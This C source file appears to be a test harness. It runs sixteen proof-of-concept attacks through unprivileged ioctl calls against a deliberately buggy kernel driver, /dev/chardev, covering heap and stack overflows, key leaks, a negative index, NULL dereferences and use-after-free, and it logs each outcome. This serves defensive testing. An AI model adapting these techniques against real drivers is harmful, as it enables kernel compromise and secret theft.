// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
/*
 * Attacks on /dev/chardev, each on one bug of the driver, through the calls
 * that any user may make.
 *
 *	attack --list			name, function and property, bug class
 *	attack KEY workload NAME...	runs each, says how it ended
 *
 * KEY is what the driver was loaded with.  No attack sends it: it is there to
 * recognise the key in what the driver gives away.
 */
#define _GNU_SOURCE	/* memmem */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include "chardev.h"
#include "user.h"

#define SESSIONS	42	/* two slabs of 192-byte objects */
#define SLOTS		48	/* 192 bytes of samples */
#define CAPACITY	11	/* a batch of 192 bytes */
#define MAGIC		0xdeadbeefu
#define TIMEOUT		20	/* seconds an attack may take */

static const char *secret;

void say(const char *format, ...)
{
	char line[300];
	va_list args;
	int fd, n;

	va_start(args, format);
	n = vsnprintf(line, sizeof(line), format, args);
	va_end(args);
	if (n >= (int)sizeof(line))
		n = sizeof(line) - 1;
	fd = open("/dev/kmsg", O_WRONLY);
	if (fd < 0 || write(fd, line, n) != n)
		fprintf(stderr, "%s\n", line);
	close(fd);
}

int session_open(void)
{
	int fd = open("/dev/chardev", O_RDWR);

	if (fd < 0) {
		say("attack: cannot open /dev/chardev: %s", strerror(errno));
		exit(2);
	}
	return fd;
}

/* A call that must work for the attack to make sense. */
static void must(int fd, unsigned long cmd, void *arg)
{
	if (ioctl(fd, cmd, arg) >= 0)
		return;
	say("attack: preparation: ioctl %lx: %s", cmd, strerror(errno));
	exit(2);
}

/* From here on a report of the kernel is about the attack. */
static void strike(void)
{
	static int done;

	if (!done++)
		say("attack: strike");
}

static int has_secret(const void *bytes, size_t size)
{
	return memmem(bytes, size, secret, CHARDEV_KEY_LEN) != NULL;
}

/*
 * Each attack returns what it achieved, or NULL when the driver refused or
 * nothing was gained.
 */

/* ring-seek takes a position one past the end; the next sample goes there. */
static const char *ring_overflow(void)
{
	uint32_t nr = SLOTS, data[SLOTS] = { 0 }, bad = MAGIC;
	struct chardev_histogram h;
	int fd[SESSIONS], i, k;

	for (i = 0; i < SESSIONS; i++) {
		fd[i] = session_open();
		must(fd[i], CHARDEV_RING_SETUP, &nr);
		if (write(fd[i], data, sizeof(data)) != sizeof(data))
			return NULL;
	}
	for (i = 0; i < SESSIONS; i++) {
		if (ioctl(fd[i], CHARDEV_RING_SEEK, &nr) < 0)
			return NULL;
		strike();
		if (write(fd[i], &bad, sizeof(bad)) < 0)
			return NULL;
		for (k = 0; k < SESSIONS; k++) {
			h.width = 0x10000000;
			must(fd[k], CHARDEV_HISTOGRAM, &h);
			if (h.bins[MAGIC >> 28])
				return "a sample of another session overwritten";
		}
	}
	return NULL;
}

static int batch_session(void)
{
	struct chardev_batch_new b = { .capacity = CAPACITY, .nr = CAPACITY };
	int fd = session_open();

	must(fd, CHARDEV_BATCH_NEW, &b);
	return fd;
}

/* Does record 0 of one of these batches hold what nobody wrote there? */
static int batch_hit(const int *fd, int nr)
{
	int i;

	for (i = 0; i < nr; i++) {
		struct chardev_batch_record r = { .index = 0 };

		must(fd[i], CHARDEV_BATCH_GET, &r);
		if (r.record.value == MAGIC)
			return 1;
	}
	return 0;
}

/* Records that pass for the head of a batch, followed by the mark. */
static void batch_payload(struct chardev_record *r, int nr)
{
	int i;

	for (i = 0; i < nr; i++) {
		r[i].id = r[i].flags = CAPACITY;
		r[i].value = MAGIC;
	}
}

/* The space that is left is not what append compares with. */
static const char *batch_append(void)
{
	struct chardev_batch_append a = { .nr = 3 };
	int fd[SESSIONS], i;

	for (i = 0; i < SESSIONS; i++)
		fd[i] = batch_session();
	batch_payload(a.records, a.nr);
	for (i = 0; i < SESSIONS; i++) {
		strike();
		if (ioctl(fd[i], CHARDEV_BATCH_APPEND, &a) < 0)
			return NULL;
		if (batch_hit(fd, SESSIONS))
			return "48 bytes of another session overwritten";
	}
	return NULL;
}

/* The record after the last one can be set, in a full batch too. */
static const char *batch_set(void)
{
	struct chardev_batch_record r = { .index = CAPACITY };
	struct chardev_status st;
	int fd[SESSIONS], i, k;

	for (i = 0; i < SESSIONS; i++)
		fd[i] = batch_session();
	r.record.id = r.record.flags = MAGIC;
	for (i = 0; i < SESSIONS; i++) {
		strike();
		if (ioctl(fd[i], CHARDEV_BATCH_SET, &r) < 0)
			return NULL;
		for (k = 0; k < SESSIONS; k++) {
			must(fd[k], CHARDEV_STATUS, &st);
			if (st.capacity == MAGIC)
				return "head of another batch overwritten";
		}
	}
	return NULL;
}

/* 2^28 + 11 records need 192 bytes, in 32 bits. */
static const char *batch_wrap(void)
{
	struct chardev_batch_new b = {
		.capacity = 0x10000000 + CAPACITY, .nr = CAPACITY + 3,
	};
	int fd[SESSIONS], i;

	batch_payload(b.records, b.nr);
	for (i = 0; i < SESSIONS; i++) {
		fd[i] = batch_session();
		strike();
		if (ioctl(session_open(), CHARDEV_BATCH_NEW, &b) < 0)
			return NULL;
		if (batch_hit(fd, i + 1))
			return "another session overwritten by a tiny batch";
	}
	return NULL;
}

/* The length of a name is the caller's word. */
static const char *name_leak(void)
{
	char text[64] = "";
	struct chardev_name_get get = {
		.channel = CHARDEV_CHANNELS - 1, .len = 56,
		.buf = (uintptr_t)text,
	};

	strike();
	if (ioctl(session_open(), CHARDEV_NAME_GET, &get) < 0)
		return NULL;
	return has_secret(text, sizeof(text)) ? "key read back" : NULL;
}

/* A longer name than there is room for, up to the lock behind it. */
static const char *name_overflow(void)
{
	struct chardev_name set = { .len = CHARDEV_NAME_LEN + 4, .name = "x" };
	struct chardev_gain gain = { .gain = 77 };
	int fd = session_open();

	if (ioctl(fd, CHARDEV_GAIN_SET, &gain) == 0) {
		say("attack: preparation: channel 0 is not locked");
		exit(2);
	}
	strike();
	if (ioctl(fd, CHARDEV_NAME_SET, &set) < 0)
		return NULL;
	if (ioctl(fd, CHARDEV_GAIN_SET, &gain) < 0)
		return NULL;
	return "locked channel changed without the key";
}

/* Only the upper bound of a signed index is looked at. */
static const char *gain_negative(void)
{
	struct chardev_gain gain = { .channel = -1, .gain = -1 };
	struct chardev_status st;
	int fd = session_open();

	strike();
	if (ioctl(fd, CHARDEV_GAIN_SET, &gain) < 0)
		return NULL;
	must(fd, CHARDEV_STATUS, &st);
	return st.rate_limit == UINT32_MAX ? "rate limit overwritten" : NULL;
}

/* The index into a table is not looked at: read on to the key. */
static const char *scale_index(void)
{
	uint32_t words[512];
	struct chardev_scale s;
	unsigned int i;
	int fd = session_open();

	strike();
	for (i = 0; i < 512; i++) {
		s.unit = i;
		if (ioctl(fd, CHARDEV_SCALE_GET, &s) < 0)
			return NULL;
		words[i] = s.factor;
		if (has_secret(words, (i + 1) * sizeof(words[0])))
			return "key read back word by word";
	}
	return NULL;
}

/* A sample chooses the bin, and so the word of the stack that is counted up. */
static const char *histogram_stack(void)
{
	uint32_t nr = 1, sample;
	struct chardev_histogram h;
	int fd = session_open();

	for (sample = CHARDEV_BINS; sample < 64; sample++) {
		must(fd, CHARDEV_RING_SETUP, &nr);
		if (write(fd, &sample, sizeof(sample)) != sizeof(sample))
			return NULL;
		memset(&h, 0, sizeof(h));
		h.width = 1;
		strike();
		if (ioctl(fd, CHARDEV_HISTOGRAM, &h) < 0)
			return NULL;
		if (h.width != 1)
			return "another variable on the stack overwritten";
	}
	return NULL;
}

/* A label that is longer than its room, up to the level behind it. */
static const char *label_strcpy(void)
{
	struct chardev_marker m = { .id = 1 };
	int fd = session_open();

	memset(m.label, 'A', sizeof(m.label));
	strike();
	if (ioctl(fd, CHARDEV_MARKER_ADD, &m) < 0)
		return NULL;
	must(fd, CHARDEV_MARKER_GET, &m);
	return m.level ? "level of the marker overwritten" : NULL;
}

/* A title that fills its room has no terminator; the key is next. */
static const char *title_unterminated(void)
{
	struct chardev_title t;
	char text[200] = "";
	int fd = session_open();

	memset(t.title, 'T', sizeof(t.title));
	must(fd, CHARDEV_TITLE_SET, &t);
	strike();
	if (ioctl(fd, CHARDEV_TITLE_GET, text) < 0)
		return NULL;
	return has_secret(text, sizeof(text)) ? "key read back" : NULL;
}

/* What the ticket left on the stack comes out with the status. */
static const char *status_uninit(void)
{
	struct chardev_ticket t = { .serial = 1 };
	struct chardev_status st;
	int fd = session_open();

	strike();		/* before: another call would clear the stack */
	must(fd, CHARDEV_TICKET, &t);
	if (ioctl(fd, CHARDEV_STATUS, &st) < 0)
		return NULL;
	return has_secret(&st, sizeof(st)) ? "key read back" : NULL;
}

/* No marker has this id: the result of the search is used all the same. */
static const char *marker_null(void)
{
	struct chardev_marker_poke p = { .id = 12345, .index = 3 };

	strike();
	ioctl(session_open(), CHARDEV_MARKER_POKE, &p);
	return NULL;
}

/* The second marker of the same id is an error pointer. */
static const char *marker_errptr(void)
{
	struct chardev_marker m = { .id = 1 };
	int fd = session_open();

	must(fd, CHARDEV_MARKER_ADD, &m);
	strike();
	ioctl(fd, CHARDEV_MARKER_ADD, &m);
	return NULL;
}

/* The cursor of a list walk that found nothing is no marker. */
static const char *marker_cursor(void)
{
	struct chardev_marker m = { .id = 12345, .value = MAGIC };
	struct chardev_status st;
	int fd = session_open();

	strike();
	if (ioctl(fd, CHARDEV_MARKER_SET, &m) < 0)
		return NULL;
	must(fd, CHARDEV_STATUS, &st);
	return st.max_markers == MAGIC ? "limit of the session overwritten"
				       : NULL;
}

/* The level is compared with that of a marker freed a moment ago. */
static const char *marker_freed(void)
{
	struct chardev_marker m = { .id = 1, .level = 1 };
	int fd = session_open();

	must(fd, CHARDEV_MARKER_ADD, &m);
	strike();
	if (ioctl(fd, CHARDEV_MARKER_REPLACE, &m) < 0)
		return NULL;
	must(fd, CHARDEV_MARKER_GET, &m);
	return m.level ? "level raised through freed memory" : NULL;
}

struct attack {
	const char *name;
	const char *function;	/* of the driver, that makes the bad access */
	const char *property;	/* that it breaks */
	const char *what;
	const char *(*run)(void);
};

static const struct attack attacks[] = {
	{ "ring-overflow", "ring_push", "bounds",
	  "heap overflow by one element", ring_overflow },
	{ "batch-append", "chardev_batch_append", "bounds",
	  "heap overflow by many", batch_append },
	{ "batch-set", "chardev_batch_set", "bounds",
	  "flexible array, off by one", batch_set },
	{ "batch-wrap", "chardev_batch_new", "bounds",
	  "size of an allocation wraps", batch_wrap },
	{ "name-leak", "chardev_name_get", "bounds",
	  "read overflow, user length", name_leak },
	{ "name-overflow", "chardev_name_set", "bounds",
	  "memcpy past a member, user length", name_overflow },
	{ "gain-negative", "chardev_gain_set", "bounds",
	  "negative index", gain_negative },
	{ "scale-index", "chardev_scale_get", "bounds",
	  "unchecked index into a fixed table", scale_index },
	{ "histogram-stack", "chardev_histogram", "bounds",
	  "stack array overflow", histogram_stack },
	{ "label-strcpy", "marker_new", "bounds",
	  "strcpy of a user string", label_strcpy },
	{ "title-unterminated", "chardev_title_get", "bounds",
	  "string without terminator", title_unterminated },
	{ "status-uninit", "chardev_status", "init",
	  "uninitialised stack to user space", status_uninit },
	{ "marker-null", "chardev_marker_poke", "null",
	  "NULL dereference", marker_null },
	{ "marker-errptr", "chardev_marker_add", "null",
	  "ERR_PTR dereference", marker_errptr },
	{ "marker-cursor", "chardev_marker_set", "bounds",
	  "list cursor used after the loop", marker_cursor },
	{ "marker-freed", "chardev_marker_replace", "lifetime",
	  "use after free", marker_freed },
};
#define NR_ATTACKS	(sizeof(attacks) / sizeof(attacks[0]))

static const struct attack *find(const char *name)
{
	unsigned int i;

	for (i = 0; i < NR_ATTACKS; i++)
		if (strcmp(attacks[i].name, name) == 0)
			return &attacks[i];
	say("attack: no attack named %s", name);
	exit(2);
}

/* The attacker: its process is what a stopped attack costs. */
static void attacker(const struct attack *a)
{
	const char *achieved;

	alarm(TIMEOUT);
	achieved = a->run();
	if (achieved)
		say("attack: achieved: %s", achieved);
	_exit(achieved ? 1 : 0);
}

static void give_up(int sig)
{
	(void)sig;
}

static void run(const struct attack *a)
{
	const struct sigaction action = { .sa_handler = give_up };
	int status;
	pid_t pid;

	say("attack: begin %s", a->name);
	pid = fork();
	if (pid == 0)
		attacker(a);
	sigaction(SIGALRM, &action, NULL);	/* a dead task may hang */
	alarm(TIMEOUT + 5);
	if (waitpid(pid, &status, 0) != pid)
		say("attack: end %s: hangs", a->name);
	else if (WIFSIGNALED(status))
		say("attack: end %s: killed by signal %d", a->name,
		    WTERMSIG(status));
	else
		say("attack: end %s: exit %d", a->name, WEXITSTATUS(status));
	alarm(0);
}

static int list(void)
{
	unsigned int i;

	for (i = 0; i < NR_ATTACKS; i++)
		printf("%s\t%s\t%s\t%s\n", attacks[i].name,
		       attacks[i].function, attacks[i].property,
		       attacks[i].what);
	return 0;
}

int main(int argc, char **argv)
{
	int i;

	if (argc == 2 && strcmp(argv[1], "--list") == 0)
		return list();
	if (argc < 3 || strlen(argv[1]) != CHARDEV_KEY_LEN) {
		fprintf(stderr, "usage: attack --list | attack KEY NAME...\n");
		return 2;
	}
	secret = argv[1];
	for (i = 2; i < argc; i++) {
		if (strcmp(argv[i], "workload") == 0)
			say("workload: end: %s",
			    workload(secret) ? "failed" : "ok");
		else
			run(find(argv[i]));
	}
	return 0;
}
